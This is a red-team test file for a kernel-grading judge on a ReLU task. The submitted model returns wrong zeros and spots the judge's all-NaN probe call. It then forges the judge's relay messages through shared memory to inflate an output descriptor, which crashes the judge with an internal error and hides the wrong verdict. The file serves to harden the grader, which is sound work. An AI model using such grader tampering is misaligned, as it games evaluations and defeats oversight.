"""Attack: make the judge's explanation of a wrong output end as kbv's fault (19_ReLU, CPU).

When an output is wrong the judge asks why (call_window.cpp, explain_wrong_output): a call on
inputs of nothing but poison, then, if the wrong output looks computed from poison, a settled call
on other inputs (the decoy) and one on the same inputs. This kernel returns zeros (wrong); on the
all-NaN call it returns its wrong output again, so it looks computed from poison, and the relay on
its channel inflates the decoy call's output descriptor (sizes [2^38], strides [0]). The decoy's
copy failed with a c10 error the explanation did not catch: `internal_error` after the judge had
already found the output wrong (strict and verified). The sandbox was then mid-call, and the next
distribution's call met a stray answer (`protocol_violation`) once that was caught.
Red team, 2026-12-07: internal_error (CPU, reproduced).

kbv must conclude: `incorrect`, with the first wrong draw's reason.
"""
import mmap
import os
import sys

import torch
import torch.nn as nn

sys.path.insert(0, os.path.dirname(__file__))
from _attack_common import rewrite_answers  # noqa: E402

_state = mmap.mmap(-1, 8)  # shared with the relay (forked): 2 = poison call seen, 1 = inflate the next answer


def forge(msg):
    if msg.get("type") == "called" and msg.get("status") == "ok" and msg.get("outputs") and _state[0] == 1:
        _state[0] = 0
        msg["outputs"][0]["sizes"] = [1 << 38]
        msg["outputs"][0]["strides"] = [0]
    return msg


rewrite_answers(forge)


class ModelNew(nn.Module):
    def __init__(self, *init_inputs):
        super().__init__()
        self.last = None

    def forward(self, x):
        if _state[0] == 2:
            _state[0] = 1  # the decoy call: its answer is inflated
        if self.last is not None and x.numel() and bool(torch.isnan(x).all()):
            _state[0] = 2  # the poison call: the output was judged wrong
            return self.last.clone()
        self.last = torch.zeros_like(x)  # wrong
        return self.last
